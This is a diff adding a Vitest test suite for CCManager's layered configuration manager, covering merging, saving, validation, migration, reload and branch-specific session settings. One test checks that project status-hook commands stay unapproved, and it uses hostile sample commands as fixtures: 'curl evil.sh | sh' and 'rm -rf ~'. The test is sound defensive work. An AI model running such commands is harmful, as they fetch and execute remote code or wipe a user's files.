@@ -0,0 +1,491 @@
+import {describe, it, expect, beforeEach, afterEach, vi} from 'vitest';
+import {execFileSync} from 'child_process';
+import {
+	existsSync,
+	mkdirSync,
+	mkdtempSync,
+	readFileSync,
+	realpathSync,
+	rmSync,
+	writeFileSync,
+} from 'fs';
+import {tmpdir} from 'os';
+import {join} from 'path';
+import {ConfigurationManager} from './configurationManager.js';
+import {CONFIG_VERSION} from '../utils/configSchema.js';
+import {ConfigurationData, DEFAULT_SHORTCUTS} from '../types/index.js';
+
+describe('ConfigurationManager', () => {
+	let baseDir: string;
+	let globalDir: string;
+	let projectRoot: string;
+
+	const globalPath = () => join(globalDir, 'config.json');
+	const projectPath = () => join(projectRoot, '.ccmanager', 'config.json');
+	const localPath = () => join(projectRoot, '.ccmanager', 'config.local.json');
+
+	const writeJson = (path: string, data: ConfigurationData) => {
+		mkdirSync(join(path, '..'), {recursive: true});
+		writeFileSync(path, JSON.stringify(data));
+	};
+	const readJson = (path: string) => JSON.parse(readFileSync(path, 'utf-8'));
+
+	beforeEach(() => {
+		baseDir = mkdtempSync(join(tmpdir(), 'ccmanager-test-'));
+		globalDir = join(baseDir, 'global');
+		projectRoot = join(baseDir, 'repo');
+		mkdirSync(projectRoot);
+	});
+
+	afterEach(() => {
+		rmSync(baseDir, {recursive: true, force: true});
+	});
+
+	it('should use defaults when no layer exists', () => {
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		expect(manager.getShortcuts()).toEqual(DEFAULT_SHORTCUTS);
+		expect(manager.getWorktreeConfig()).toEqual({autoDirectory: false});
+		expect(manager.getValueSource('shortcuts')).toBeUndefined();
+		expect(manager.getSourceLabel('shortcuts')).toBe('[default]');
+	});
+
+	it('should merge layers with local over project over global', () => {
+		writeJson(globalPath(), {
+			worktree: {autoDirectory: false, autoDirectoryPattern: '../{branch}'},
+			statusHooks: {idle: [{command: 'notify idle', enabled: true}]},
+		});
+		writeJson(projectPath(), {
+			worktree: {autoDirectory: true},
+			zellij: {mode: 'tab', extraPanes: [{name: 'shell'}]},
+		});
+		writeJson(localPath(), {
+			statusHooks: {idle: [{command: 'notify idle', enabled: false}]},
+			zellij: {mode: 'tab', extraPanes: []},
+		});
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		expect(manager.getWorktreeConfig()).toEqual({
+			autoDirectory: true,
+			autoDirectoryPattern: '../{branch}',
+		});
+		expect(manager.getStatusHooks().idle?.[0]?.enabled).toBe(false);
+		// Arrays are replaced, not concatenated
+		expect(manager.getZellijConfig().extraPanes).toEqual([]);
+
+		expect(manager.getValueSource('worktree.autoDirectory')).toBe('project');
+		expect(manager.getValueSource('worktree.autoDirectoryPattern')).toBe(
+			'global',
+		);
+		expect(manager.getValueSource('statusHooks.idle')).toBe('local');
+		expect(manager.getSourceLabel('zellij.mode')).toBe('[local]');
+	});
+
+	it('should load a project layer that only sets some fields', () => {
+		writeJson(globalPath(), {
+			worktree: {autoDirectory: true},
+			zellij: {mode: 'tab'},
+		});
+		writeJson(projectPath(), {
+			worktree: {setupFiles: [{pattern: '.env', mode: 'copy'}]},
+			zellij: {extraPanes: [{name: 'shell'}]},
+		} as ConfigurationData);
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		manager.approveProjectCommands();
+
+		expect(manager.getValidationErrors()).toEqual([]);
+		expect(manager.getWorktreeConfig()).toEqual({
+			autoDirectory: true,
+			setupFiles: [{pattern: '.env', mode: 'copy'}],
+		});
+		expect(manager.getZellijConfig()).toEqual({
+			mode: 'tab',
+			extraPanes: [{name: 'shell'}],
+		});
+	});
+
+	it('should save edits to the chosen layer only', () => {
+		writeJson(globalPath(), {worktree: {autoDirectory: false}});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		manager.setSaveLayer('project');
+		manager.setWorktreeConfig({autoDirectory: true});
+
+		expect(readJson(projectPath())).toEqual({
+			version: CONFIG_VERSION,
+			worktree: {autoDirectory: true},
+		});
+		expect(readJson(globalPath())).toEqual({
+			worktree: {autoDirectory: false},
+		});
+		expect(manager.getWorktreeConfig().autoDirectory).toBe(true);
+		expect(manager.getValueSource('worktree.autoDirectory')).toBe('project');
+	});
+
+	it('should only write the fields that were edited', () => {
+		writeJson(globalPath(), {
+			worktree: {autoDirectory: false, autoDirectoryPattern: '../{branch}'},
+		});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		manager.setSaveLayer('project');
+		manager.setWorktreeConfig({
+			...manager.getWorktreeConfig(),
+			autoDirectory: true,
+		});
+
+		expect(readJson(projectPath())).toEqual({
+			version: CONFIG_VERSION,
+			worktree: {autoDirectory: true},
+		});
+	});
+
+	it('should never save menu preferences to the project layer', () => {
+		writeJson(projectPath(), {menu: {groupByPrefix: true}});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		manager.setSaveLayer('project');
+		manager.setMenuConfig({sortBy: 'state'});
+
+		expect(readJson(projectPath())).toEqual({menu: {groupByPrefix: true}});
+		expect(readJson(globalPath())).toEqual({
+			version: CONFIG_VERSION,
+			menu: {sortBy: 'state'},
+		});
+		expect(manager.getMenuConfig()).toEqual({
+			sortBy: 'state',
+			groupByPrefix: true,
+		});
+
+		manager.setSaveLayer('local');
+		manager.setMenuConfig({groupByPrefix: false});
+
+		expect(readJson(localPath())).toEqual({
+			version: CONFIG_VERSION,
+			menu: {groupByPrefix: false},
+		});
+	});
+
+	it('should keep the local layer out of git', () => {
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		manager.setSaveLayer('local');
+		manager.setZellijConfig({mode: 'tab'});
+
+		expect(readJson(localPath())).toEqual({
+			version: CONFIG_VERSION,
+			zellij: {mode: 'tab'},
+		});
+		expect(
+			readFileSync(join(projectRoot, '.ccmanager', '.gitignore'), 'utf-8'),
+		).toContain('config.local.json');
+		expect(existsSync(globalPath())).toBe(false);
+	});
+
+	it('should keep valid settings and report invalid fields', () => {
+		writeJson(globalPath(), {
+			version: CONFIG_VERSION,
+			statusHooks: {
+				idle: [{command: 'notify idle', enabled: true}],
+				busy: [{command: 'notify busy', enabled: 'yes'}],
+			},
+			zellij: {mode: 'tabs'},
+		} as unknown as ConfigurationData);
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		expect(manager.getStatusHooks()).toEqual({
+			idle: [{command: 'notify idle', enabled: true}],
+			busy: [{command: 'notify busy'}],
+		});
+		expect(manager.getZellijConfig()).toEqual({mode: 'pane'});
+		expect(manager.getValidationErrors()).toEqual([
+			{
+				layer: 'global',
+				path: 'statusHooks.busy[0].enabled',
+				message: 'must be true or false',
+			},
+			{
+				layer: 'global',
+				path: 'zellij.mode',
+				message: 'must be one of "pane", "tab"',
+			},
+		]);
+	});
+
+	it('should not touch a file that is not valid JSON', () => {
+		mkdirSync(globalDir, {recursive: true});
+		writeFileSync(globalPath(), '{"statusHooks": {');
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		expect(manager.getStatusHooks()).toEqual({});
+		expect(manager.getValidationErrors()).toHaveLength(1);
+		expect(manager.getValidationErrors()[0]?.message).toContain(
+			'Failed to read',
+		);
+		expect(readFileSync(globalPath(), 'utf-8')).toBe('{"statusHooks": {');
+	});
+
+	it('should back up the previous file before rewriting it', () => {
+		writeJson(globalPath(), {
+			version: CONFIG_VERSION,
+			worktree: {autoDirectory: false},
+		});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		manager.setWorktreeConfig({autoDirectory: true});
+
+		expect(readJson(`${globalPath()}.bak`)).toEqual({
+			version: CONFIG_VERSION,
+			worktree: {autoDirectory: false},
+		});
+		expect(readJson(globalPath()).worktree).toEqual({autoDirectory: true});
+	});
+
+	it('should migrate unversioned files and the legacy shortcuts.json', () => {
+		const legacyShortcuts = {
+			returnToMenu: {ctrl: true, key: 'r'},
+			cancel: {key: 'escape'},
+		};
+		writeJson(join(globalDir, 'shortcuts.json'), legacyShortcuts as never);
+		writeJson(globalPath(), {worktree: {autoDirectory: true}});
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		// Shortcuts added since the legacy file keep their defaults
+		expect(manager.getShortcuts()).toEqual({
+			...DEFAULT_SHORTCUTS,
+			...legacyShortcuts,
+		});
+		expect(readJson(globalPath())).toEqual({
+			version: CONFIG_VERSION,
+			worktree: {autoDirectory: true},
+			shortcuts: legacyShortcuts,
+		});
+		// The unversioned file is kept as a backup
+		expect(readJson(`${globalPath()}.bak`)).toEqual({
+			worktree: {autoDirectory: true},
+		});
+	});
+
+	it('should not rewrite files that need no migration', () => {
+		writeJson(localPath(), {zellij: {mode: 'tab'}});
+		const before = readFileSync(localPath(), 'utf-8');
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+
+		expect(readFileSync(localPath(), 'utf-8')).toBe(before);
+		expect(existsSync(`${localPath()}.bak`)).toBe(false);
+		expect(manager.getNotices()).toEqual([]);
+	});
+
+	it('should only upgrade the shared project layer in memory', () => {
+		const project = {
+			statusHooks: {idle: {command: 'notify idle', enabled: true}},
+		};
+		writeJson(projectPath(), project as never);
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		manager.approveProjectCommands();
+
+		expect(manager.getStatusHooks().idle).toEqual([
+			{command: 'notify idle', enabled: true},
+		]);
+		expect(readJson(projectPath())).toEqual(project);
+		expect(existsSync(join(projectRoot, '.ccmanager', '.gitignore'))).toBe(
+			false,
+		);
+		expect(manager.getNotices()).toEqual([
+			{
+				layer: 'project',
+				message: expect.stringContaining('Allow several status hooks'),
+			},
+		]);
+	});
+
+	it('should ignore project commands until they are approved', () => {
+		writeJson(projectPath(), {
+			worktree: {autoDirectory: true},
+			statusHooks: {idle: [{command: 'curl evil.sh | sh', enabled: true}]},
+		});
+
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		expect(manager.getWorktreeConfig().autoDirectory).toBe(true);
+		expect(manager.getStatusHooks()).toEqual({});
+		expect(manager.getValueSource('statusHooks.idle')).toBeUndefined();
+		expect(manager.getProjectCommandSettings()).toEqual(['statusHooks']);
+		expect(manager.needsProjectApproval()).toBe(true);
+		expect(manager.getNotices()).toEqual([
+			{
+				layer: 'project',
+				message: expect.stringContaining('statusHooks'),
+			},
+		]);
+
+		// Declining only stops asking for this run
+		manager.declineProjectCommands();
+		expect(manager.needsProjectApproval()).toBe(false);
+		expect(manager.getStatusHooks()).toEqual({});
+		expect(
+			new ConfigurationManager(globalDir, projectRoot).needsProjectApproval(),
+		).toBe(true);
+
+		manager.approveProjectCommands();
+		expect(manager.getStatusHooks().idle).toHaveLength(1);
+		const nextRun = new ConfigurationManager(globalDir, projectRoot);
+		expect(nextRun.needsProjectApproval()).toBe(false);
+		expect(nextRun.getStatusHooks().idle).toHaveLength(1);
+
+		// Changed commands, e.g. after a git pull, need a new approval
+		writeJson(projectPath(), {
+			statusHooks: {idle: [{command: 'rm -rf ~', enabled: true}]},
+		});
+		nextRun.reload();
+		expect(nextRun.getStatusHooks()).toEqual({});
+		expect(nextRun.needsProjectApproval()).toBe(true);
+	});
+
+	it('should keep approving commands saved to the project layer', () => {
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		manager.setSaveLayer('project');
+		manager.setStatusHooks({idle: [{command: 'notify idle', enabled: true}]});
+
+		const nextRun = new ConfigurationManager(globalDir, projectRoot);
+		expect(nextRun.needsProjectApproval()).toBe(false);
+		expect(nextRun.getStatusHooks().idle).toHaveLength(1);
+	});
+
+	it('should reload files edited outside CCManager', () => {
+		writeJson(projectPath(), {worktree: {autoDirectory: false}});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		const listener = vi.fn();
+		manager.on('configChanged', listener);
+
+		writeJson(projectPath(), {worktree: {autoDirectory: true}});
+		manager.reload();
+
+		expect(manager.getWorktreeConfig().autoDirectory).toBe(true);
+		expect(listener).toHaveBeenCalledTimes(1);
+	});
+
+	it('should not notify when a reload changes nothing', () => {
+		writeJson(globalPath(), {
+			version: CONFIG_VERSION,
+			zellij: {mode: 'tab'},
+		});
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		const listener = vi.fn();
+		manager.on('configChanged', listener);
+
+		// Same settings, only formatted differently
+		writeFileSync(
+			globalPath(),
+			JSON.stringify({version: CONFIG_VERSION, zellij: {mode: 'tab'}}, null, 4),
+		);
+		manager.reload();
+
+		expect(listener).not.toHaveBeenCalled();
+	});
+
+	it('should report errors introduced by an external edit', () => {
+		const manager = new ConfigurationManager(globalDir, projectRoot);
+		const listener = vi.fn();
+		manager.on('configChanged', listener);
+
+		writeJson(localPath(), {zellij: {mode: 'window' as never}});
+		manager.reload();
+
+		expect(listener).toHaveBeenCalledTimes(1);
+		expect(manager.getZellijConfig().mode).toBe('pane');
+		expect(manager.getValidationErrors()).toEqual([
+			expect.objectContaining({layer: 'local', path: 'zellij.mode'}),
+		]);
+	});
+
+	describe('session settings', () => {
+		const git = (...args: string[]) =>
+			execFileSync('git', args, {cwd: projectRoot, stdio: 'pipe'});
+
+		beforeEach(() => {
+			// Worktree paths reported by git are resolved
+			projectRoot = realpathSync(projectRoot);
+			git('init', '-q', '-b', 'main');
+			git('config', 'user.name', 'Test');
+			git('config', 'user.email', 'test@example.com');
+			git('commit', '-q', '--allow-empty', '-m', 'initial');
+		});
+
+		const addWorktree = (branch: string) => {
+			const worktreePath = join(baseDir, branch.replace(/\//g, '-'));
+			git('worktree', 'add', '-q', '-b', branch, worktreePath);
+			return worktreePath;
+		};
+
+		it('should return empty settings when nothing is configured', () => {
+			const manager = new ConfigurationManager(globalDir, projectRoot);
+
+			expect(manager.getSessionSettings(projectRoot)).toEqual({
+				defaultCommand: undefined,
+				agentOverrides: {},
+			});
+		});
+
+		it('should apply every matching branch pattern in order over the layers', () => {
+			writeJson(globalPath(), {
+				agentOverrides: {claude: {env: {LOG: '1', MODE: 'dev'}}},
+			});
+			writeJson(projectPath(), {
+				defaultCommand: 'claude',
+				agentOverrides: {claude: {args: ['--verbose']}},
+				branches: {
+					'feature/*': {
+						agentOverrides: {
+							claude: {args: ['--model', 'opus'], env: {MODE: 'feature'}},
+						},
+					},
+					'feature/**': {defaultCommand: 'codex'},
+					'release/*': {defaultCommand: 'aider'},
+				},
+			});
+			const worktreePath = addWorktree('feature/login');
+			const manager = new ConfigurationManager(globalDir, projectRoot);
+			manager.approveProjectCommands();
+
+			expect(manager.getSessionSettings(worktreePath)).toEqual({
+				defaultCommand: 'codex',
+				agentOverrides: {
+					claude: {
+						args: ['--verbose', '--model', 'opus'],
+						env: {LOG: '1', MODE: 'feature'},
+					},
+				},
+			});
+			expect(manager.getSessionSettings(projectRoot).defaultCommand).toBe(
+				'claude',
+			);
+		});
+
+		it('should let the local layer override branch settings of the project', () => {
+			writeJson(projectPath(), {
+				defaultCommand: 'claude',
+				branches: {'feature/*': {defaultCommand: 'codex'}},
+			});
+			writeJson(localPath(), {
+				defaultCommand: 'aider',
+				branches: {'feature/*': {defaultCommand: 'gemini'}},
+			});
+			const worktreePath = addWorktree('feature/login');
+			const manager = new ConfigurationManager(globalDir, projectRoot);
+
+			expect(manager.getSessionSettings(projectRoot).defaultCommand).toBe(
+				'aider',
+			);
+			expect(manager.getSessionSettings(worktreePath).defaultCommand).toBe(
+				'gemini',
+			);
+		});
+	});
+});